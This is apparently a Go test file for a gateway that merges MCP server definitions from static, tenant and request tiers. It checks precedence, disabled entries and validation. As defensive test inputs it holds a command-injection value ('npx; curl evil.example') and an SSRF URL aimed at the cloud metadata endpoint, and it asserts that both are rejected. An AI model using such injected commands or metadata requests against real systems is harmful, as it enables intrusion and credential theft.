package resolver

import (
	"net"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/toolgate/toolgate/engine/mcp"
)

func stdioDef(name, command string, args ...string) *mcp.ServerDefinition {
	return &mcp.ServerDefinition{
		Name:      name,
		Transport: mcp.TransportStdio,
		Command:   command,
		Args:      args,
	}
}

func httpDef(name, url string) *mcp.ServerDefinition {
	return &mcp.ServerDefinition{
		Name:      name,
		Transport: mcp.TransportHTTP,
		URL:       url,
	}
}

func disabled(def *mcp.ServerDefinition) *mcp.ServerDefinition {
	enabled := false
	def.Enabled = &enabled
	return def
}

func defs(list ...*mcp.ServerDefinition) map[string]*mcp.ServerDefinition {
	out := make(map[string]*mcp.ServerDefinition, len(list))
	for _, def := range list {
		out[def.Name] = def
	}
	return out
}

func newTestMergeEngine() *MergeEngine {
	return NewMergeEngine(newTestValidator(nil))
}

func TestMergeEngine_Precedence(t *testing.T) {
	t.Run("Tenant entry completely replaces same-named static entry", func(t *testing.T) {
		engine := newTestMergeEngine()
		static := defs(func() *mcp.ServerDefinition {
			def := httpDef("search", "https://93.184.216.34/v1")
			def.Headers = map[string]string{"Accept": "application/json"}
			return def
		}())
		tenant := defs(httpDef("search", "https://93.184.216.34/v2"))

		result := engine.Merge(t.Context(), static, tenant, nil)

		require.Contains(t, result.Servers, "search")
		merged := result.Servers["search"]
		assert.Equal(t, "https://93.184.216.34/v2", merged.URL)
		// Complete replacement: headers from the static entry must not leak in
		assert.NotContains(t, merged.Headers, "Accept")
		assert.Equal(t, mcp.OriginTenant, merged.Origin)
	})

	t.Run("Request entry replaces tenant and static", func(t *testing.T) {
		engine := newTestMergeEngine()
		static := defs(stdioDef("github", "npx", "-y", "server-github"))
		request := &RequestTier{
			Supplied: true,
			Servers:  defs(stdioDef("github", "npx", "-y", "server-github", "--readonly")),
		}

		result := engine.Merge(t.Context(), static, nil, request)

		require.Contains(t, result.Servers, "github")
		assert.Equal(t, []string{"-y", "server-github", "--readonly"}, result.Servers["github"].Args)
		assert.Equal(t, mcp.OriginRequest, result.Servers["github"].Origin)
	})

	t.Run("Distinct names from all tiers coexist", func(t *testing.T) {
		engine := newTestMergeEngine()
		static := defs(stdioDef("github", "npx", "-y", "server-github"))
		tenant := defs(httpDef("postgres", "https://93.184.216.34/db"))
		request := &RequestTier{
			Supplied: true,
			Servers:  defs(stdioDef("github", "npx", "-y", "server-github", "--readonly")),
		}

		result := engine.Merge(t.Context(), static, tenant, request)

		require.Len(t, result.Servers, 2)
		assert.Len(t, result.Servers["github"].Args, 3)
		assert.Equal(t, mcp.OriginTenant, result.Servers["postgres"].Origin)
		assert.Empty(t, result.Rejected)
	})
}

func TestMergeEngine_OptOutDistinction(t *testing.T) {
	engine := newTestMergeEngine()
	static := defs(stdioDef("github", "npx"))
	tenant := defs(httpDef("postgres", "https://93.184.216.34/db"))

	t.Run("Explicitly empty request map yields empty result", func(t *testing.T) {
		request := &RequestTier{Supplied: true, Servers: map[string]*mcp.ServerDefinition{}}

		result := engine.Merge(t.Context(), static, tenant, request)

		assert.Empty(t, result.Servers)
		assert.Empty(t, result.Rejected)
	})

	t.Run("Absent request field keeps static plus tenant", func(t *testing.T) {
		result := engine.Merge(t.Context(), static, tenant, nil)

		assert.Len(t, result.Servers, 2)
	})

	t.Run("Unsupplied tier struct behaves like absent field", func(t *testing.T) {
		result := engine.Merge(t.Context(), static, tenant, &RequestTier{Supplied: false})

		assert.Len(t, result.Servers, 2)
	})
}

func TestMergeEngine_DisabledEntries(t *testing.T) {
	engine := newTestMergeEngine()

	t.Run("Disabled static entry never reaches output", func(t *testing.T) {
		static := defs(disabled(stdioDef("github", "npx")))

		result := engine.Merge(t.Context(), static, nil, nil)

		assert.Empty(t, result.Servers)
	})

	t.Run("Disabled tenant entry shadows same-named static entry", func(t *testing.T) {
		static := defs(stdioDef("github", "npx"))
		tenant := defs(disabled(stdioDef("github", "npx")))

		result := engine.Merge(t.Context(), static, tenant, nil)

		assert.Empty(t, result.Servers)
	})

	t.Run("Disabled request entry removes the name", func(t *testing.T) {
		static := defs(stdioDef("github", "npx"))
		request := &RequestTier{
			Supplied: true,
			Servers:  defs(disabled(stdioDef("github", "npx"))),
		}

		result := engine.Merge(t.Context(), static, nil, request)

		assert.Empty(t, result.Servers)
	})
}

func TestMergeEngine_PostMergeValidation(t *testing.T) {
	engine := newTestMergeEngine()

	t.Run("Request tier cannot launder a dangerous value", func(t *testing.T) {
		// The static github entry is clean; the request replaces it with a
		// command injection attempt, so validation must see the request value
		static := defs(stdioDef("github", "npx", "-y", "server-github"))
		request := &RequestTier{
			Supplied: true,
			Servers:  defs(stdioDef("github", "npx; curl evil.example")),
		}

		result := engine.Merge(t.Context(), static, nil, request)

		assert.NotContains(t, result.Servers, "github")
		require.Len(t, result.Rejected, 1)
		assert.Equal(t, "github", result.Rejected[0].Name)
		assert.Contains(t, result.Rejected[0].Reason, "shell metacharacter")
	})

	t.Run("SSRF attempt lands in rejected with a reason", func(t *testing.T) {
		request := &RequestTier{
			Supplied: true,
			Servers:  defs(httpDef("internal", "http://169.254.169.254/latest/meta-data")),
		}

		result := engine.Merge(t.Context(), nil, nil, request)

		assert.NotContains(t, result.Servers, "internal")
		require.Len(t, result.Rejected, 1)
		assert.Equal(t, "internal", result.Rejected[0].Name)
		assert.Contains(t, result.Rejected[0].Reason, "metadata")
	})

	t.Run("Valid entries survive alongside rejected ones", func(t *testing.T) {
		static := defs(
			stdioDef("github", "npx", "-y", "server-github"),
			httpDef("internal", "http://10.0.0.8/mcp"),
		)

		result := engine.Merge(t.Context(), static, nil, nil)

		assert.Contains(t, result.Servers, "github")
		assert.NotContains(t, result.Servers, "internal")
		assert.Len(t, result.Rejected, 1)
	})
}

func TestMergeEngine_RequestDecodeFailures(t *testing.T) {
	engine := newTestMergeEngine()

	t.Run("Decode failure removes the name instead of falling back", func(t *testing.T) {
		static := defs(stdioDef("github", "npx"))
		request := &RequestTier{
			Supplied: true,
			Servers:  map[string]*mcp.ServerDefinition{},
			Rejected: []Rejection{{Name: "github", Reason: "invalid definition"}},
		}

		result := engine.Merge(t.Context(), static, nil, request)

		assert.NotContains(t, result.Servers, "github",
			"a broken override must not fall back to the static value")
		require.Len(t, result.Rejected, 1)
	})

	t.Run("All-rejected request is not mistaken for opt-out", func(t *testing.T) {
		static := defs(stdioDef("github", "npx"), stdioDef("files", "mcp-files"))
		request := &RequestTier{
			Supplied: true,
			Servers:  map[string]*mcp.ServerDefinition{},
			Rejected: []Rejection{{Name: "github", Reason: "invalid definition"}},
		}

		result := engine.Merge(t.Context(), static, nil, request)

		assert.Contains(t, result.Servers, "files")
	})
}

func TestMergeEngine_ExampleScenario(t *testing.T) {
	t.Run("Request args win while tenant-only entries survive", func(t *testing.T) {
		engine := NewMergeEngine(newTestValidator(map[string][]net.IPAddr{
			"db.example.com": ipAddrs("93.184.216.34"),
		}))
		static := defs(stdioDef("github", "npx", "-y", "server-github"))
		tenant := defs(httpDef("postgres", "https://db.example.com"))
		request := &RequestTier{
			Supplied: true,
			Servers:  defs(stdioDef("github", "npx", "-y", "server-github", "--readonly")),
		}

		result := engine.Merge(t.Context(), static, tenant, request)

		require.Len(t, result.Servers, 2)
		assert.Equal(t, []string{"-y", "server-github", "--readonly"}, result.Servers["github"].Args)
		assert.Contains(t, result.Servers, "postgres")
		assert.Empty(t, result.Rejected)
	})
}
